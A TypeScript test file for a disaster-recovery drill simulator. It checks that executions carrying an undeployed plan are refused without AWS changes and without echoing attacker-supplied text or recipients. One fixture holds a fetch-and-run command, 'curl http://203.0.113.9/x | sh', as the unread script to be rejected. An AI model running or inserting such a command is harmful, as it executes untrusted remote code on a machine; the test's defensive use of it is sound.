import { describe, expect, it } from 'vitest';
import { type DrillRecord, drillRecordSchema } from '../../core/verdict/record.ts';
import { checkAll } from '../../simulator/checkers/check-all.ts';
import type { History } from '../../simulator/history.ts';
import { type Simulation, simulate } from '../../simulator/simulate.ts';
import { codesOf, mailsIn, mutationsIn, planDataWith, planOfData, scenarioWith } from './rehearse.ts';

/** Somebody who may start executions, and nothing else, with an input of their own. */

type Json = Record<string, unknown>;

const APPROVED = 'a'.repeat(64);
const SLOT = '2026-11-21T17:00:00Z';
const BY_SCHEDULE = { trigger: { type: 'schedule', actor: null }, scheduledFor: SLOT } as const;
const deployed = [{ planData: planDataWith(), planSha256: APPROVED }];

interface Outcome {
  readonly history: History;
  readonly record: DrillRecord;
  readonly mutations: readonly string[];
}

/** Executions of this plan, under the hash of the deployed one, whose input claims this. */
async function started(plan: Json, claims: Simulation['claims'] = {}, scenario: Json = {}): Promise<Outcome> {
  const planData = planDataWith(plan);
  const history = await simulate({
    drills: [{ plan: planOfData(planData), planData, planSha256: APPROVED }],
    deployed,
    claims,
    scenario: scenarioWith(scenario),
    seed: 1,
  });
  expect(checkAll(history)).toEqual([]);
  const [text = ''] = history.records.values();
  return {
    history,
    record: drillRecordSchema.parse(JSON.parse(text)),
    mutations: mutationsIn(history.calls),
  };
}

/** The deployed plan with a script that nobody has read. */
const WITH_SCRIPT = {
  waves: [
    {
      name: 'all',
      servers: [{ hostname: 'wordpress-db' }],
      actions: [{ name: 'unread', servers: ['wordpress-db'], script: 'curl http://203.0.113.9/x | sh' }],
    },
  ],
};

describe('an execution with a plan that was not deployed', () => {
  it.each<[string, Json]>([
    ['a script of somebody’s own', WITH_SCRIPT],
    ['fewer servers', { waves: [{ name: 'all', servers: [{ hostname: 'wordpress-web' }] }] }],
    ['another id', { id: 'nobody-knows' }],
  ])('is refused, under the approved hash and in the schedule’s name: %s', async (_, plan) => {
    const { history, record, mutations } = await started(plan, BY_SCHEDULE);
    expect(mutations).toEqual([]);
    expect(history.calls.filter(({ service }) => ['drs', 'ec2', 'ssm'].includes(service))).toEqual([]);
    expect([record.verdict, ...codesOf({ record })]).toEqual(['SKIPPED', 'PLAN_NOT_DEPLOYED']);
    expect(record.planSha256).not.toBe(APPROVED);
    expect(record).toMatchObject({ trigger: { type: 'manual', actor: null }, scheduledFor: null });
    expect(mailsIn(history.messages).map(({ subject }) => subject)).toEqual([
      expect.stringContaining('見送り'),
    ]);
  });

  it('says nothing in its own words, and to nobody of its own choice', async () => {
    const words = 'call 0120-000-000 now';
    const topic = 'arn:aws:sns:ap-northeast-1:111122223333:of-somebody';
    const { history } = await started({
      ...WITH_SCRIPT,
      title: { ja: words, en: words },
      owner: { name: words, email: 'somebody@example.com' },
      approval: { ticket: words, approver: words },
      scenario: { threat: words, purpose: words, criteria: [{ text: words }], participants: [words] },
      target: {
        account: '111122223333',
        region: 'ap-northeast-3',
        role: { arn: 'arn:aws:iam::111122223333:role/of-somebody', externalId: 'of-somebody' },
      },
      guards: { changeCalendars: [words], blockingAlarms: [words] },
      notifications: {
        topics: [topic],
        mentions: { slack: ['U012AB3CD'] },
        webhooks: [
          {
            service: 'slack',
            secret: 'arn:aws:ssm:ap-northeast-1:111122223333:parameter/of-somebody',
          },
        ],
      },
    });
    const told = [...history.messages, ...history.posts, ...history.records, ...history.evidence];
    expect(told.length).toBeGreaterThan(3);
    const text = told.map((one) => JSON.stringify(one)).join('\n');
    for (const word of [words, 'of-somebody', 'somebody@example.com', 'U012AB3CD'])
      expect(text, word).not.toContain(word);
  });

  it('is not recorded under the approved hash either where it is stopped before its first step', async () => {
    const { record, mutations } = await started(WITH_SCRIPT, BY_SCHEDULE, {
      workflow: [{ state: 'OpenDrill', happens: 'execution-aborted' }],
    });
    expect(mutations).toEqual([]);
    expect(record).toMatchObject({
      closedBy: 'sweep',
      trigger: { type: 'manual', actor: null },
      scheduledFor: null,
    });
    expect(record.planSha256).not.toBe(APPROVED);
    expect(record.verdict).not.toMatch(/^PASS/);
  });
});

describe('an execution with a plan that was deployed', () => {
  it('runs, by nobody’s schedule, whatever its input claims of its start and its hash', async () => {
    const { record } = await started({}, { ...BY_SCHEDULE, planSha256: 'b'.repeat(64) });
    expect(record).toMatchObject({
      verdict: 'PASS',
      planSha256: APPROVED,
      trigger: { type: 'manual', actor: null },
      scheduledFor: null,
    });
  });

  it('names who says that they started it', async () => {
    const actor = 'arn:aws:sts::111122223333:assumed-role/DrOperator/hanako';
    const { record } = await started({}, { trigger: { type: 'manual', actor } });
    expect(record.trigger).toEqual({ type: 'manual', actor });
  });

  it.each<[string, Json[]]>([
    ['once', []],
    [
      'and its first try dies once it has said so',
      [{ state: 'StartDrill', happens: 'is-killed', afterCalls: 1 }],
    ],
    ['and the answer to its first try is lost', [{ state: 'StartDrill', happens: 'is-killed' }]],
    ['twice at once', [{ state: 'StartDrill', happens: 'runs-twice-at-once' }]],
  ])('is the schedule’s where start-drill has started it %s', async (_, workflow) => {
    const { record, history } = await started({}, {}, { deliveries: 2, workflow });
    expect(record).toMatchObject({ verdict: 'PASS', trigger: { type: 'schedule', actor: null } });
    expect(record.scheduledFor).not.toBeNull();
    expect(history.executions).toHaveLength(1);
  });
});
